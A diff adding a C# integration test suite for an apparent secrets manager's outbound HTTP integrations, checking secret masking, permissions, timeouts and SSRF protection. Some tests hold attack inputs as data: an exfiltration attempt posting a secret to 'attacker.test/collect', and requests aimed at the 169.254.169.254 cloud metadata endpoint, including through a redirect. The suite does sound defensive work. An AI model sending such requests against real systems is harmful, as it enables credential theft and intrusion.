@@ -1,0 +1,324 @@
+using System.Net;
+using AngleSharp.Dom;
+using AngleSharp.Html.Dom;
+using Microsoft.EntityFrameworkCore;
+using Microsoft.Extensions.DependencyInjection;
+using Ziggy.Secrets.Tests.Support;
+using Ziggy.Secrets.Web.Accounts;
+using Ziggy.Secrets.Web.Crypto;
+using Ziggy.Secrets.Web.Integrations;
+
+namespace Ziggy.Secrets.Tests.Integration.Integrations;
+
+public sealed class IntegrationRunTests : IAsyncLifetime
+{
+    private static readonly string ApiKey = "sk_live_CANARY+" + Guid.NewGuid().ToString("N") + "/é&\"x";
+    private static readonly string Token = "tok CANARY " + Guid.NewGuid().ToString("N") + " ü+/=";
+    private static readonly string Password = "pw-CANARY-" + Guid.NewGuid().ToString("N");
+
+    private readonly ZiggyAppFactory _app = new(settings: new()
+    {
+        ["Ziggy:Integrations:AllowPrivateNetworks"] = "true",
+        ["Ziggy:Integrations:TimeoutSeconds"] = "2",
+    });
+
+    private StubServer _stub = null!;
+    private ApplicationUser _owner = null!;
+    private TestSession _olivia = null!;
+
+    public async Task InitializeAsync()
+    {
+        _stub = await StubServer.StartAsync();
+        _owner = await _app.SetUpAsync();
+        _olivia = await _app.SignInAsync("owner@acme.test");
+        await SecretsUi.CreateAsync(_olivia, "API_KEY", "", development: ApiKey, staging: ApiKey + "-stg");
+        await SecretsUi.CreateAsync(_olivia, "TOKEN", "", development: Token, staging: Token + "-stg");
+        await SecretsUi.CreateAsync(_olivia, "PASSWORD", "", development: Password, staging: Password + "-stg", production: Password + "-prd");
+    }
+
+    public async Task DisposeAsync()
+    {
+        _olivia.Dispose();
+        await _stub.DisposeAsync();
+        _app.Dispose();
+    }
+
+    private long Decrypts => _app.Services.GetRequiredService<ISecretCipher>().DecryptCount;
+
+    /// <summary>Creates an integration through the real form; answers its id (or the page with errors).</summary>
+    private static async Task<(Guid? Id, IHtmlDocument Page)> SaveIntegrationAsync(TestSession session, string name, string method, string url, string headers = "", string body = "")
+    {
+        var page = await session.GetPageAsync("/Integrations/Edit");
+        page.AssertEveryFieldLabelled();
+        var response = await session.SubmitAsync(page.Form("#integration-form"), new()
+        {
+            ["Input.Name"] = name, ["Input.Method"] = method, ["Input.Url"] = url, ["Input.Headers"] = headers, ["Input.Body"] = body,
+        });
+        if (response.StatusCode == HttpStatusCode.Redirect)
+        {
+            var location = response.Headers.Location!.ToString();
+            var id = Guid.Parse(location[(location.IndexOf("id=", StringComparison.Ordinal) + 3)..]);
+            return (id, await session.GetPageAsync(location));
+        }
+
+        return (null, await TestSession.ParseAsync(response));
+    }
+
+    private static async Task<IHtmlDocument> RunAsync(TestSession session, Guid id, string environment)
+    {
+        var page = await session.GetPageAsync($"/Integrations/Edit?id={id}");
+        var response = await session.SubmitAsync(page.Form("form.run-form"), new() { ["environment"] = environment }, htmx: true);
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        return await TestSession.ParseAsync(response);
+    }
+
+    private string EchoUrl => _stub.BaseUrl + "/echo";
+
+    private static string? QueryValue(StubRequest request, string name) =>
+        System.Web.HttpUtility.ParseQueryString(new Uri("http://x" + request.PathAndQuery).Query)[name];
+
+    [Fact]
+    public async Task Run_Development_StubGetsRealValuesWhileEverythingShownOrStoredIsMasked()
+    {
+        var (id, _) = await SaveIntegrationAsync(_olivia, "Charge", "POST",
+            EchoUrl + "?key={{secrets.API_KEY}}", "Authorization: Bearer {{secrets.TOKEN}}\nX-Api-Key: {{ secrets.API_KEY }}", "{{secrets.PASSWORD}}");
+        var before = Decrypts;
+
+        var result = await RunAsync(_olivia, id!.Value, "Development");
+
+        // The stub got the real values.
+        var received = Assert.Single(_stub.Received);
+        Assert.Equal("Bearer " + Token, received.Headers["Authorization"]);
+        Assert.Equal(ApiKey, received.Headers["X-Api-Key"]);
+        Assert.Equal(Password, received.Body);
+        Assert.Equal(ApiKey, QueryValue(received, "key"));
+
+        // Exactly one decrypt per referenced secret.
+        Assert.Equal(before + 3, Decrypts);
+
+        // The page shows status and the redacted answer: masks instead of values, in every form.
+        Assert.Equal("HTTP 200", result.QuerySelector("[data-testid=run-status]")!.TextContent);
+        var body = result.QuerySelector("[data-testid=run-body]")!.TextContent;
+        Assert.Contains("sk_live_***", body);
+        Assert.Contains("X-Echo-Auth: Bearer tok CANA***", result.QuerySelector("[data-testid=run-headers]")!.TextContent);
+        var run = await _app.WithDbAsync(db => db.IntegrationRuns.SingleAsync());
+        Assert.Equal("API_KEY,TOKEN,PASSWORD", run.SecretNames);
+        Assert.Equal(200, run.StatusCode);
+        Assert.Equal(SecretEnvironment.Development, run.Environment);
+        Assert.Equal(_owner.Id, run.RunById);
+        foreach (var canary in new[] { ApiKey, Token, Password })
+        {
+            _app.AssertNeverRevealed(canary);
+            Assert.DoesNotContain(canary, run.ResponseBody + run.ResponseHeaders + run.Error);
+        }
+    }
+
+    [Fact]
+    public async Task Run_AnyMemberOfTheOrganization_MayRunASavedIntegration()
+    {
+        await _app.AddUserAsync(_owner.OrganizationId, "mia@acme.test", Role.Member, "Mia Member");
+        var (id, _) = await SaveIntegrationAsync(_olivia, "Ping", "GET", EchoUrl + "?t={{secrets.TOKEN}}");
+        using var mia = await _app.SignInAsync("mia@acme.test");
+
+        var result = await RunAsync(mia, id!.Value, "Staging");
+
+        Assert.Equal("HTTP 200", result.QuerySelector("[data-testid=run-status]")!.TextContent);
+        Assert.Equal(Token + "-stg", QueryValue(Assert.Single(_stub.Received), "t"));
+        var run = await _app.WithDbAsync(db => db.IntegrationRuns.Include(r => r.RunBy).SingleAsync());
+        Assert.Equal("Mia Member", run.RunBy!.DisplayName);
+    }
+
+    [Fact]
+    public async Task Run_ProductionWithAMissingValue_IsRefusedBeforeAnyNetworkCall()
+    {
+        var (id, _) = await SaveIntegrationAsync(_olivia, "Prod call", "POST", EchoUrl, "Authorization: {{secrets.TOKEN}}", "{{secrets.PASSWORD}} {{secrets.API_KEY}}");
+        var before = Decrypts;
+
+        var result = await RunAsync(_olivia, id!.Value, "Production");
+
+        Assert.Equal("No Production value for: TOKEN, API_KEY. Nothing was sent.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
+        Assert.Empty(_stub.Received);
+        Assert.Equal(before, Decrypts);
+        var run = await _app.WithDbAsync(db => db.IntegrationRuns.SingleAsync());
+        Assert.False(run.Succeeded);
+        Assert.Null(run.StatusCode);
+    }
+
+    [Fact]
+    public async Task Run_UnknownSecretName_IsRefusedAndTheEditorFlagsIt()
+    {
+        var (id, page) = await SaveIntegrationAsync(_olivia, "Typo", "GET", EchoUrl + "?k={{secrets.API_KEI}}&t={{secrets.TOKEN}}");
+        var row = page.QuerySelector("[data-testid=references] tr[data-secret=API_KEI]")!;
+        Assert.Contains("No secret with this name", row.TextContent);
+        var token = page.QuerySelector("[data-testid=references] tr[data-secret=TOKEN]")!.QuerySelectorAll("td").Select(c => c.TextContent.Trim()).ToList();
+        Assert.Equal(["TOKEN", "Yes", "Yes", "No"], token.Take(4));
+
+        var result = await RunAsync(_olivia, id!.Value, "Development");
+
+        Assert.Equal("Unknown secrets: API_KEI. Nothing was sent.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
+        Assert.Empty(_stub.Received);
+    }
+
+    [Fact]
+    public async Task References_WhileTyping_ListsEachNameWithItsEnvironments()
+    {
+        var page = await _olivia.GetPageAsync("/Integrations/Edit");
+        var token = page.QuerySelector<IHtmlInputElement>("input[name=__RequestVerificationToken]")!.Value;
+
+        var response = await _olivia.PostFormAsync("/Integrations/Edit?handler=References", new()
+        {
+            ["__RequestVerificationToken"] = token, ["Input.Url"] = "https://x.test/{{secrets.PASSWORD}}", ["Input.Body"] = "{{secrets.NOPE}}",
+        }, htmx: true);
+        var fragment = await TestSession.ParseAsync(response);
+
+        Assert.Equal(["PASSWORD", "Yes", "Yes", "Yes"], fragment.QuerySelector("tr[data-secret=PASSWORD]")!.QuerySelectorAll("td").Take(4).Select(c => c.TextContent.Trim()));
+        Assert.Contains("No secret with this name", fragment.QuerySelector("tr[data-secret=NOPE]")!.TextContent);
+    }
+
+    [Fact]
+    public async Task Save_MemberReferencingAnotherMembersSecret_IsRefusedNamingTheSecret()
+    {
+        await _app.AddUserAsync(_owner.OrganizationId, "mia@acme.test", Role.Member, "Mia Member");
+        using var mia = await _app.SignInAsync("mia@acme.test");
+
+        var (id, page) = await SaveIntegrationAsync(mia, "Exfiltrate", "POST", "https://attacker.test/collect", "", "{{secrets.PASSWORD}}");
+
+        Assert.Null(id);
+        Assert.Contains("You may not use secret PASSWORD in an integration: only its owner (Olivia Owner) or an Admin may reference it.", page.FormError());
+        Assert.Equal(0, await _app.WithDbAsync(db => db.Integrations.CountAsync()));
+    }
+
+    [Fact]
+    public async Task Run_OwnerLostTheRightToASecret_IsRefusedAtRunTime()
+    {
+        var mia = await _app.AddUserAsync(_owner.OrganizationId, "mia@acme.test", Role.Member, "Mia Member");
+        using var miaSession = await _app.SignInAsync("mia@acme.test");
+        await SecretsUi.CreateAsync(miaSession, "MIA_KEY", "", development: "mia-dev-value-123");
+        var (id, _) = await SaveIntegrationAsync(miaSession, "Mine", "GET", EchoUrl + "?k={{secrets.MIA_KEY}}");
+        Assert.NotNull(id);
+
+        // Olivia (an admin) takes the secret over: Mia may no longer use it, even in her saved integration.
+        var secretId = await _app.WithDbAsync(db => db.Secrets.Where(s => s.Name == "MIA_KEY").Select(s => s.Id).SingleAsync());
+        var editor = await SecretsUi.EditPageAsync(_olivia, secretId);
+        await _olivia.SubmitAsync(editor.Form("form.transfer"), new() { ["newOwnerId"] = _owner.Id.ToString() }, htmx: true);
+
+        var result = await RunAsync(miaSession, id!.Value, "Development");
+
+        Assert.Contains("This integration's owner may not use secret MIA_KEY", result.QuerySelector("[data-testid=run-error]")!.TextContent);
+        Assert.Empty(_stub.Received);
+        Assert.NotEqual(Guid.Empty, mia.Id);
+    }
+
+    [Theory]
+    [InlineData("http://169.254.169.254/latest/meta-data/", "169.254.169.254 is a link-local")]
+    [InlineData("http://[fe80::1]/", "link-local")]
+    public async Task Run_LinkLocalTarget_IsAlwaysRefused(string url, string reason)
+    {
+        var (id, _) = await SaveIntegrationAsync(_olivia, "Metadata", "GET", url, "X-Key: {{secrets.API_KEY}}");
+
+        var result = await RunAsync(_olivia, id!.Value, "Development");
+
+        var error = result.QuerySelector("[data-testid=run-error]")!.TextContent;
+        Assert.StartsWith("Refused to connect:", error.Trim());
+        Assert.Contains(reason, error);
+    }
+
+    [Fact]
+    public async Task Run_RedirectToARefusedAddress_IsNotFollowed()
+    {
+        var (id, _) = await SaveIntegrationAsync(_olivia, "Bouncer", "GET",
+            _stub.BaseUrl + "/redirect?to=" + Uri.EscapeDataString("http://169.254.169.254/latest/"), "X-Key: {{secrets.API_KEY}}");
+
+        var result = await RunAsync(_olivia, id!.Value, "Development");
+
+        Assert.Contains("Refused to connect: 169.254.169.254 is a link-local", result.QuerySelector("[data-testid=run-error]")!.TextContent);
+        Assert.Single(_stub.Received);
+    }
+
+    [Fact]
+    public async Task Run_RedirectToAnotherOrigin_DoesNotCarryTheTemplateHeaders()
+    {
+        await using var other = await StubServer.StartAsync();
+        var (id, _) = await SaveIntegrationAsync(_olivia, "Hop", "GET",
+            _stub.BaseUrl + "/redirect?to=" + Uri.EscapeDataString(other.BaseUrl + "/echo"), "Authorization: Bearer {{secrets.TOKEN}}");
+
+        var result = await RunAsync(_olivia, id!.Value, "Development");
+
+        Assert.Equal("HTTP 200", result.QuerySelector("[data-testid=run-status]")!.TextContent);
+        Assert.Equal("Bearer " + Token, Assert.Single(_stub.Received).Headers["Authorization"]);
+        Assert.False(Assert.Single(other.Received).Headers.ContainsKey("Authorization"));
+    }
+
+    [Fact]
+    public async Task Run_SlowServer_TimesOutWithAClearMessage()
+    {
+        var (id, _) = await SaveIntegrationAsync(_olivia, "Slow", "GET", _stub.BaseUrl + "/slow", "X-Key: {{secrets.API_KEY}}");
+
+        var result = await RunAsync(_olivia, id!.Value, "Development");
+
+        Assert.Equal("The request timed out after 2 seconds.", result.QuerySelector("[data-testid=run-error]")!.TextContent.Trim());
+    }
+
+    [Fact]
+    public async Task Run_OversizedResponse_ReadsOnlyOneMiBAndSaysSo()
+    {
+        var (id, _) = await SaveIntegrationAsync(_olivia, "Big", "GET", _stub.BaseUrl + "/big?k={{secrets.API_KEY}}");
+
+        var result = await RunAsync(_olivia, id!.Value, "Development");
+
+        Assert.Equal("HTTP 200", result.QuerySelector("[data-testid=run-status]")!.TextContent);
+        Assert.Contains("larger than 1 MiB: only the first 1 MiB were read", result.QuerySelector("[data-testid=run-error]")!.TextContent);
+        var run = await _app.WithDbAsync(db => db.IntegrationRuns.SingleAsync());
+        Assert.True(run.Truncated);
+        Assert.Equal(1024 * 1024, run.ResponseBody.Length);
+    }
+
+    [Fact]
+    public async Task Run_PrivateTargetWithoutTheSetting_IsRefusedAndTheStubHearsNothing()
+    {
+        using var strict = new ZiggyAppFactory();
+        await strict.SetUpAsync();
+        using var session = await strict.SignInAsync("owner@acme.test");
+        await SecretsUi.CreateAsync(session, "API_KEY", "", development: ApiKey);
+        var (id, _) = await SaveIntegrationAsync(session, "Local", "GET", EchoUrl + "?k={{secrets.API_KEY}}");
+
+        var result = await RunAsync(session, id!.Value, "Development");
+
+        Assert.Contains("127.0.0.1 is a loopback address", result.QuerySelector("[data-testid=run-error]")!.TextContent);
+        Assert.Empty(_stub.Received);
+    }
+
+    [Fact]
+    public async Task SecretEditor_ShowsUsedByAndTheDeleteDialogWarns()
+    {
+        await SaveIntegrationAsync(_olivia, "Charge", "GET", EchoUrl + "?k={{secrets.API_KEY}}");
+        await SaveIntegrationAsync(_olivia, "Refund", "POST", EchoUrl, "", "{{secrets.API_KEY}}");
+        var secretId = await _app.WithDbAsync(db => db.Secrets.Where(s => s.Name == "API_KEY").Select(s => s.Id).SingleAsync());
+
+        var editor = await SecretsUi.EditPageAsync(_olivia, secretId);
+        Assert.Equal("Used by 2 integrations: Charge, Refund", editor.QuerySelector("[data-testid=used-by]")!.TextContent.Trim());
+
+        var dialog = await TestSession.ParseAsync(await _olivia.GetAsync($"/Secrets?handler=Delete&id={secretId}", htmx: true));
+        var warning = dialog.QuerySelector("[data-testid=breaks-integrations]")!.TextContent;
+        Assert.Contains("Deleting this secret breaks 2 integrations", warning);
+        Assert.Contains("Charge", warning);
+        Assert.Contains("Refund", warning);
+    }
+
+    [Theory]
+    [InlineData("Input.Url", "ftp://x.test/", "Input_Url-error", "Enter an absolute http:// or https:// URL.")]
+    [InlineData("Input.Url", "", "Input_Url-error", "Enter the URL to call, for example https://api.example.com/v1/charges.")]
+    [InlineData("Input.Headers", "not a header line", "Input_Headers-error", "Line 1 is not a header: write one \"Name: value\" per line.")]
+    [InlineData("Input.Name", "", "Input_Name-error", "Enter a name for the integration.")]
+    [InlineData("Input.Method", "TRACE", "Input_Method-error", "Choose one of GET, POST, PUT, PATCH, DELETE or HEAD.")]
+    public async Task Save_InvalidTemplate_ErrorNextToTheField(string field, string value, string slot, string message)
+    {
+        var page = await _olivia.GetPageAsync("/Integrations/Edit");
+        var values = new Dictionary<string, string> { ["Input.Name"] = "Valid", ["Input.Method"] = "GET", ["Input.Url"] = "https://x.test/", [field] = value };
+
+        var result = await _olivia.SubmitAndFollowAsync(page.Form("#integration-form"), values);
+
+        Assert.Equal(message, result.QuerySelector($"#{slot}")!.TextContent.Trim());
+        Assert.Equal(0, await _app.WithDbAsync(db => db.Integrations.CountAsync()));
+    }
+}
